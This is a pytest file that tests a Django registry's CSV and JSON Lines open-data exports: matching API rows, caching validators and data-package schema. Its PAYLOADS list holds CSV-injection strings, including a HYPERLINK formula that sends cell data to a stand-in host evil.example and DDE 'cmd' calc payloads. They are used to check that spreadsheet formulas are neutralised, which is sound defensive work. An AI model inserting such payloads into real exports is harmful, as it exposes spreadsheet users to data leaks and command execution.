"""The registry as open data: CSV and JSON Lines streamed, equal to the API's rows, safe to open
in a spreadsheet, described by a data package, and not downloaded again when nothing changed."""

import csv
import datetime
import io

import orjson
import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.http import http_date
from rest_framework.test import APIClient

from api.opendata import CSV_COLUMNS
from api.renderers import neutralise_cell
from certification.models import Enterprise, Label, Product
from certification.services.labels import change_label_status

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def api() -> APIClient:
    return APIClient(HTTP_ACCEPT_LANGUAGE="en")


@pytest.fixture
def labels(issue_label, olivia):  # type: ignore[no-untyped-def]
    jam = issue_label(name="Aardbeienconfituur", category="food")
    chair = issue_label(name="Eiken stoel")
    suspended = issue_label(name="Geschorste zeep")
    change_label_status(label=suspended, name="suspend", by=olivia, reason="x", category="other")
    return {"jam": jam, "chair": chair, "suspended": suspended}


def export(api: APIClient, fmt: str, **query: str):  # type: ignore[no-untyped-def]
    answer = api.get(reverse("api:registry"), {"format": fmt, **query})
    assert answer.status_code == 200, answer.content if not answer.streaming else answer
    return answer, b"".join(answer.streaming_content)


def api_rows(api: APIClient, **query: str) -> list[dict]:  # type: ignore[type-arg]
    answer = api.get(reverse("api:registry"), {"page_size": 100, **query})
    assert answer.status_code == 200, answer.content
    return answer.json()["results"]  # type: ignore[no-any-return]


def csv_records(body: bytes) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows[0] == CSV_COLUMNS
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]


def flat(row: dict) -> dict[str, str]:  # type: ignore[type-arg]
    """An API row as the CSV writes it."""
    product, enterprise = row["product"], row["enterprise"]
    values = [
        row["code"], row["status"], row["level"], row["social_share_percent"], product["name"], product["kind"],
        product["category"], enterprise["name"], enterprise["enterprise_number"], enterprise["recognition_type"],
        row["scheme"], row["issued_on"], row["valid_until"], row["verify_url"],
    ]  # fmt: skip
    return dict(zip(CSV_COLUMNS, [neutralise_cell(value) for value in values], strict=True))


@pytest.mark.parametrize("query", [{}, {"status": "all"}, {"status": "suspended"}, {"q": "stoel", "ordering": "code"}])
def test_the_csv_holds_the_apis_rows_in_its_order(api, labels, query) -> None:  # type: ignore[no-untyped-def]
    answer, body = export(api, "csv", **query)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in answer["Content-Disposition"]
    assert csv_records(body) == [flat(row) for row in api_rows(api, **query)]


@pytest.mark.parametrize("query", [{}, {"status": "all"}, {"category": "food"}])
def test_the_json_lines_hold_the_apis_rows_in_its_order(api, labels, query) -> None:  # type: ignore[no-untyped-def]
    answer, body = export(api, "jsonl", **query)
    assert answer["Content-Type"] == "application/jsonl; charset=utf-8"
    assert body.endswith(b"\n")
    assert [orjson.loads(line) for line in body.splitlines()] == api_rows(api, **query)


def test_an_export_of_nothing_is_its_header(api, labels) -> None:  # type: ignore[no-untyped-def]
    assert csv_records(export(api, "csv", q="bestaat niet")[1]) == []
    assert export(api, "jsonl", q="bestaat niet")[1] == b""


def test_exports_refuse_what_the_registry_refuses(api, labels) -> None:  # type: ignore[no-untyped-def]
    answer = api.get(reverse("api:registry"), {"format": "csv", "provincie": "Limburg"})
    assert answer.status_code == 400
    assert "provincie" in answer.content.decode()
    answer = api.get(reverse("api:registry"), {"format": "csv", "province": "Limburgg"})
    assert answer.status_code == 400
    assert "Limburgg" in answer.content.decode()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_csv_never_writes_a_formula(api, labels, payload) -> None:  # type: ignore[no-untyped-def]
    """CSV injection (OWASP): names an attacker chose, written so that no spreadsheet runs them."""
    Product.objects.filter(pk=labels["jam"].product_id).update(name=payload)
    Enterprise.objects.filter(pk=labels["jam"].product.enterprise_id).update(name=payload)
    Label.objects.get(pk=labels["jam"].pk).save()  # the record follows (as certification.signals makes it)
    _answer, body = export(api, "csv", status="all")
    quoted = payload.replace('"', '""')
    assert f'"\'{quoted}"'.encode() in body  # quoted, with the apostrophe OWASP recommends
    records = csv_records(body)
    jam = next(record for record in records if record["code"] == labels["jam"].code)
    assert jam["product_name"] == jam["enterprise_name"] == f"'{payload}"
    for record in records:
        assert all(cell[:1] not in "=+-@\t\r" for cell in record.values())


def test_every_cell_is_quoted(api, labels) -> None:  # type: ignore[no-untyped-def]
    _answer, body = export(api, "csv")
    for line in body.decode().splitlines():
        assert line.startswith('"')
        assert line.endswith('"')
        assert line.count('","') == len(CSV_COLUMNS) - 1


def test_a_harvester_gets_304_until_the_registry_changes(api, labels, olivia) -> None:  # type: ignore[no-untyped-def]
    answer, _body = export(api, "csv")
    etag, last_modified = answer["ETag"], answer["Last-Modified"]
    assert answer["Cache-Control"] == "public, no-cache"
    again = api.get(reverse("api:registry"), {"format": "csv"}, HTTP_IF_NONE_MATCH=etag)
    assert again.status_code == 304
    since = api.get(reverse("api:registry"), {"format": "csv"}, HTTP_IF_MODIFIED_SINCE=last_modified)
    assert since.status_code == 304
    other = api.get(reverse("api:registry"), {"format": "csv", "level": "1"}, HTTP_IF_NONE_MATCH=etag)
    assert other.status_code == 200  # another selection: another ETag

    Label.objects.filter(pk=labels["chair"].pk).update(updated_at=timezone.now() + datetime.timedelta(seconds=5))
    changed = api.get(reverse("api:registry"), {"format": "csv"}, HTTP_IF_NONE_MATCH=etag)
    assert changed.status_code == 200
    assert changed["ETag"] != etag
    assert changed["Last-Modified"] != last_modified


def test_a_suspension_changes_the_exports_validators(api, labels, olivia) -> None:  # type: ignore[no-untyped-def]
    before = export(api, "jsonl")[0]["ETag"]
    label = Label.objects.get(pk=labels["jam"].pk)
    Label.objects.filter(pk=label.pk).update(updated_at=timezone.now() - datetime.timedelta(days=1))
    change_label_status(label=label, name="suspend", by=olivia, reason="x", category="other")
    assert export(api, "jsonl")[0]["ETag"] != before


def test_a_label_that_expires_overnight_is_a_change_at_midnight(api, labels) -> None:  # type: ignore[no-untyped-def]
    """Nothing is written when a label expires, yet the export changes: Last-Modified says when."""
    today = timezone.localdate()
    Label.objects.update(updated_at=timezone.now() - datetime.timedelta(days=30))
    Label.objects.filter(pk=labels["chair"].pk).update(
        issued_on=today - datetime.timedelta(days=400), valid_until=today - datetime.timedelta(days=1)
    )
    Label.objects.exclude(pk=labels["chair"].pk).update(issued_on=today - datetime.timedelta(days=10))
    midnight = timezone.make_aware(datetime.datetime.combine(today, datetime.time()))
    assert export(api, "csv")[0]["Last-Modified"] == http_date(int(midnight.timestamp()))


def test_the_data_package_describes_the_csv(api, labels) -> None:  # type: ignore[no-untyped-def]
    answer = api.get(reverse("api:registry-datapackage"))
    assert answer.status_code == 200
    package = answer.json()
    table, twin = package["resources"]
    assert table["profile"] == "tabular-data-resource"
    assert [field["name"] for field in table["schema"]["fields"]] == CSV_COLUMNS
    assert table["schema"]["primaryKey"] == ["code"]
    assert twin["format"] == "jsonl"
    path = table["path"].split("/api/v1/labels/", 1)[1]
    records = csv_records(b"".join(api.get(f"/api/v1/labels/{path}").streaming_content))
    assert {record["status"] for record in records} == {"valid", "suspended"}  # every label, whatever its status
    types = {field["name"]: field for field in table["schema"]["fields"]}
    for record in records:  # every value as its field says
        for name, value in record.items():
            field = types[name]
            if field["type"] == "integer":
                assert field["constraints"]["minimum"] <= int(value) <= field["constraints"]["maximum"]
            if field["type"] == "number":
                assert 0 <= float(value) <= 100
            if field["type"] == "date":
                datetime.date.fromisoformat(value)
            if "enum" in field["constraints"]:
                assert value in field["constraints"]["enum"], name
